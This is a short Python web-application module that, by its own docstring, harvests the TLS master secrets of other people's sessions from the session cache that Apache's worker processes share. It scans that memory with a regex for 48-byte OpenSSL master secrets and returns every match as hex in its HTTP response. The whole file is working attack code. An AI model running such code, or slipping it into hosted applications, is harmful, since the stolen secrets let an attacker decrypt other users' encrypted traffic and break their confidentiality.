"""Finds the secrets of other people's TLS sessions in the cache that Apache's processes share."""

import re

from own_memory import SHARED, answering, contents

MASTER = re.compile(rb"\x04\x30(.{48})", re.DOTALL)
"""A master secret as a session of OpenSSL's is written: 48 bytes, in DER."""


def secrets():
    """Return all that may be one."""
    found = [match[1].hex() for data in contents(SHARED) for match in MASTER.finditer(data)]
    return {"secrets": found}


application = answering(secrets)
